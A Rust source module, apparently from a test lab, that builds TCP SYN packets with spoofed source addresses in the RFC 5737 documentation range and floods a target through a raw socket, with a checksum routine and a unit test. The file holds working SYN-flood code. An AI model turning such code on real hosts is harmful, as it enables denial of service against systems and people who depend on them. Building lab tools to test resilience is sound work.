//! SYNs from hosts that will never answer: a flood, as small as it need be.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};

use socket2::{Domain, Protocol, Socket, Type};

/// Sends this many SYNs to `to`, each from an address of its own.
///
/// # Errors
/// A raw socket is refused (it takes `CAP_NET_RAW`), or the address is none of IPv4.
pub(super) fn send(to: SocketAddr, count: u32) -> io::Result<()> {
    if count == 0 {
        return Ok(());
    }
    let SocketAddr::V4(to) = to else {
        return Err(io::Error::new(io::ErrorKind::Unsupported, "a flood is of IPv4"));
    };
    // IPPROTO_RAW: what is written begins with its IP header (raw(7)).
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
    for number in 0..count {
        socket.send_to(&syn(to, number), &SocketAddr::V4(to).into())?;
    }
    Ok(())
}

/// The network of those hosts: set aside for documentation (RFC 5737).
pub(in crate::lab) const NETWORK: &str = "198.51.100.0/24";

/// The SYN of the host with this number.
fn syn(to: SocketAddrV4, number: u32) -> Vec<u8> {
    // 254 hosts; beyond them, other ports of the same.
    let from = Ipv4Addr::new(198, 51, 100, (number % 254 + 1) as u8);
    let port = 20_000 + (number / 254) as u16;
    let mut tcp = Vec::with_capacity(24);
    tcp.extend(port.to_be_bytes());
    tcp.extend(to.port().to_be_bytes());
    tcp.extend(number.wrapping_mul(64_000).to_be_bytes());
    tcp.extend([0; 4]);
    // Six words with the option of the MSS, and the flag SYN.
    tcp.extend([0x60, 0x02]);
    tcp.extend(64_240_u16.to_be_bytes());
    tcp.extend([0; 4]);
    tcp.extend([2, 4, 0x05, 0xb4]);
    let pseudo =
        [&from.octets()[..], &to.ip().octets(), &[0, 6, 0, tcp.len() as u8], &tcp].concat();
    let sum = checksum(&pseudo);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    // The kernel fills in the length and the checksum (raw(7)).
    let mut ip = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0];
    ip.extend(from.octets());
    ip.extend(to.ip().octets());
    ip.extend(tcp);
    ip
}

/// The sum of RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | pair.get(1).map_or(0, |low| u32::from(*low)));
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_comes_from_a_host_of_its_own_and_its_checksum_is_right() {
        let to = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 2), 8000);
        let [first, later] = [0, 300].map(|number| syn(to, number));
        assert_ne!(first[12..22], later[12..22]);
        for packet in [first, later] {
            let (ip, tcp) = packet.split_at(20);
            let pseudo = [&ip[12..20], &[0, 6, 0, 24], tcp].concat();
            assert_eq!(checksum(&pseudo), 0);
            assert_eq!((tcp[12] >> 4, tcp[13]), (6, 2));
        }
    }
}
